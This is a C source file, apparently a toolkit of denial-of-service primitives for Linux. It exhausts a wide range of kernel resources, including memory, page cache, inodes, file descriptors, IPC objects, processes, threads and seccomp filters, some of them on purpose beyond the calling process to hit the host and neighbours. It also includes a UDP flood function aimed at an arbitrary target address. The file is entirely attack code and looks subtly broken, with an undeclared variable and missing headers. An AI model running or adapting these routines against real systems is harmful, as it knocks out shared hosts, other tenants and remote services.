/* Kinds of attack.c that exhaust: each call takes one more of something and holds it. */
#include <linux/seccomp.h>
#include <mqueue.h>
#include <pthread.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/timerfd.h>
#include <time.h>

static char piece[1 << 20];

/* As much as fits without waiting. */
static int fill(int file) {
    fcntl(file, F_SETFL, O_NONBLOCK);
    while (write(file, piece, sizeof piece) > 0) { }
    return file;
}

static int memory(void) {
    char *taken = mmap(NULL, sizeof piece, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (taken == MAP_FAILED) return -1;
    memset(taken, 1, sizeof piece);
    return 0;
}

/* Two areas that the kernel cannot join. */
static int areas(void) {
    char *taken = mmap(NULL, 8192, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    return taken == MAP_FAILED ? -1 : mprotect(taken, 4096, PROT_READ | PROT_WRITE);
}

static int written(int file) { return file < 0 || write(file, piece, sizeof piece) != sizeof piece ? -1 : file; }
static int memfd(void) { return written(memfd_create("attack", 0)); }
static int secret(void) {
    int made = (int)syscall(447 /* memfd_secret */, 0);
    char *taken = made < 0 || ftruncate(made, sizeof piece) ? MAP_FAILED : mmap(NULL, sizeof piece, PROT_READ | PROT_WRITE, MAP_SHARED, made, 0);
    if (taken == MAP_FAILED) return -1;
    memset(taken, 1, sizeof piece);
    return made;
}

/* Its name is gone at once, and its bytes stay. */
static int file_in(const char *directory) {
    char name[64];
    snprintf(name, sizeof name, "%s/attack-XXXXXX", directory);
    int made = mkstemp(name);
    if (made >= 0) unlink(name);
    return written(made);
}
static int shared(void) { return file_in("/dev/shm"); }
static int disk(void) { return file_in("/tmp"); }

/* Reads a sparse file: pages that cost the reader nothing and the host a cache. */
static int cache(void) {
    static int made = -1;
    static long at;
    if (made < 0) {
        char name[] = "/tmp/attack-XXXXXX";
        made = mkstemp(name);
        unlink(name);
        if (made < 0 || ftruncate(made, 1L << 36)) return -1;
    }
    return pread(made, piece, sizeof piece, at++ << 20) < 0 ? -1 : 0;
}

static int inodes(void) {
    static long number;
    char name[64];
    snprintf(name, sizeof name, "/tmp/attack-%d-%ld", getpid(), number++);
    int made = mknod(name, S_IFREG | 0600, 0);
    if (made == 0 && number == 1) unlink(name); /* the host's and a neighbour's only one */
    return made;
}

/* Names that are not there: the kernel remembers each. */
static int names(void) {
    static long number;
    char name[300];
    struct stat status;
    snprintf(name, sizeof name, "/tmp/%0240ld-%d", number++, getpid());
    return stat(name, &status) && errno == ENOENT ? 0 : -1;
}

static int pipes(void) {
    int ends[2];
    if (pipe(ends)) return -1;
    fcntl(ends[1], F_SETPIPE_SZ, sizeof piece);
    return fill(ends[1]);
}

static int queues(void) {
    int ends[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends)) return -1;
    setsockopt(ends[0], SOL_SOCKET, SO_SNDBUF, &large, sizeof large);
    return fill(ends[0]);
}

/* Descriptors that lie in a socket belong to no process. */
static int flight(void) {
    int ends[2], many[200];
    char control[CMSG_SPACE(sizeof many)] = {0};
    struct iovec one = {control, 1};
    struct msghdr message = {.msg_iov = &one, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, ends)) return -1;
    for (int i = 0; i < 200; i++) many[i] = ends[0];
    *CMSG_FIRSTHDR(&message) = (struct cmsghdr){.cmsg_len = CMSG_LEN(sizeof many), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS};
    memcpy(CMSG_DATA(CMSG_FIRSTHDR(&message)), many, sizeof many);
    int sent = (int)sendmsg(ends[0], &message, MSG_DONTWAIT);
    close(ends[1]);
    return sent;
}

static int tcp(void) {
    static int listener = -1;
    static struct sockaddr_in self = {.sin_family = AF_INET, .sin_addr = {0x0100007f}};
    socklen_t length = sizeof self;
    if (listener < 0) {
        listener = socket(AF_INET, SOCK_STREAM, 0);
        if (bind(listener, (void *)&self, sizeof self) || listen(listener, 1000)) return -1;
        getsockname(listener, (void *)&self, &length);
    }
    int made = socket(AF_INET, SOCK_STREAM, 0);
    return made < 0 || connect(made, (void *)&self, sizeof self) || accept(listener, NULL, NULL) < 0 ? -1 : fill(made);
}

/* Half-open connections to a port of its own. */
static int half_open(void) {
    struct sockaddr_in self = {.sin_family = AF_INET, .sin_port = htons(1), .sin_addr = {htonl(INADDR_LOOPBACK)}};
    int made = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (made >= 0) connect(made, (void *)&self, sizeof self);
    return made;
}

static int segments(void) {
    int made = shmget(IPC_PRIVATE, sizeof piece, 0600);
    char *taken = made < 0 ? (void *)-1 : shmat(made, NULL, 0);
    if (taken == (void *)-1) return -1;
    memset(taken, 1, sizeof piece);
    return shmctl(made, IPC_RMID, NULL); /* gone with its last process */
}

static int semaphores(void) {
    static int number;
    int made = semget(IPC_PRIVATE, 32000, 0600);
    if (made >= 0 && number++ == 0) semctl(made, 0, IPC_RMID);
    return made;
}

static int mail(void) {
    static int number;
    struct { long type; char text[8192]; } letter = {1, {0}};
    int made = msgget(IPC_PRIVATE, 0600);
    if (made < 0) return -1;
    while (msgsnd(made, &letter, sizeof letter.text, IPC_NOWAIT) == 0) { }
    if (number++ == 0) msgctl(made, IPC_RMID, NULL);
    return 0;
}

static int posix_mail(void) {
    static int number;
    char name[64];
    struct mq_attr shape = {.mq_maxmsg = 10, .mq_msgsize = 8192};
    snprintf(name, sizeof name, "/attack-%d-%d", getpid(), number++);
    mqd_t made = mq_open(name, O_CREAT | O_RDWR | O_NONBLOCK, 0600, &shape);
    if (made < 0) return -1;
    while (mq_send(made, piece, 8192, 0) == 0) { }
    return mq_unlink(name);
}

static int timers(void) {
    timer_t made;
    struct sigevent nothing = {.sigev_notify = SIGEV_NONE};
    return timer_create(CLOCK_MONOTONIC, &nothing, &made);
}
static int timer_files(void) { return timerfd_create(CLOCK_MONOTONIC, 0); }
static int events(void) { return eventfd(0, 0); }

static int watches(void) {
    struct epoll_event event = {.events = EPOLLIN};
    int made = epoll_create1(0), other = eventfd(0, 0);
    return made < 0 || other < 0 ? -1 : epoll_ctl(made, EPOLL_CTL_ADD, other, &event);
}

static int signals(void) {
    union sigval value = {0};
    sigset_t all;
    sigfillset(&all);
    sigprocmask(SIG_BLOCK, &all, NULL);
    return sigqueue(getpid(), SIGRTMIN, value);
}

/* In a child: dies with its parent, also with one that is gone already. */
static void die_with(pid_t parent) {
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    if (getppid() != parent) _exit(0);
}

static int forks(void) {
    pid_t self = getpid(), child = fork();
    if (child == 0) {
        die_with(self);
        pause();
        _exit(0);
    }
    return child < 0 ? -1 : 0;
}

static void *rest(void *nothing) {
    pause();
    return nothing;
}

static int threads(void) {
    pthread_t made;
    pthread_attr_t small;
    pthread_attr_init(&small);
    pthread_attr_setstacksize(&small, 16384);
    errno = pthread_create(&made, &small, rest, NULL);
    return errno ? -1 : 0;
}

/* A process with as many system call filters as the kernel lets it have. A far jump is the longest code for one instruction. */
static int call_filters(void) {
    static struct sock_filter code[4096];
    struct sock_fprog program = {4096, code};
    int told[2], got = 0;
    if (pipe(told)) return -1;
    for (int i = 0; i < 4095; i++) code[i] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 0x7000000, (unsigned char)(4094 - i < 255 ? 4094 - i : 255), 0);
    code[0] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JA, 4094, 0, 0);
    code[4095] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
    pid_t self = getpid(), child = fork();
    if (child == 0) {
        die_with(self);
        prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
        while (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program) == 0) got++;
        if (write(told[1], &got, sizeof got) < 0) _exit(1);
        pause();
        _exit(0);
    }
    close(told[1]);
    if (child < 0 || read(told[0], &got, sizeof got) != sizeof got) got = 0;
    close(told[0]);
    return got > 0 ? 0 : -1;
}

/* attack flows TARGET COUNT: a datagram from each of some ports to each of some ports. */
static int flows(const char *target, long wanted) {
    struct sockaddr_in to = {.sin_family = AF_INET};
    int made = -1;
    inet_pton(AF_INET, target, &to.sin_addr);
    for (long i = 0; i < wanted; i++) {
        if (i % 1000 == 0) {
            close(made);
            made = socket(AF_INET, SOCK_DGRAM, 0);
        }
        to.sin_port = htons((unsigned short)(20000 + i % 1000));
        sendto(made, "x", 1, 0, (void *)&to, sizeof to);
    }
    printf("%ld 0\n", wanted);
    return 0;
}
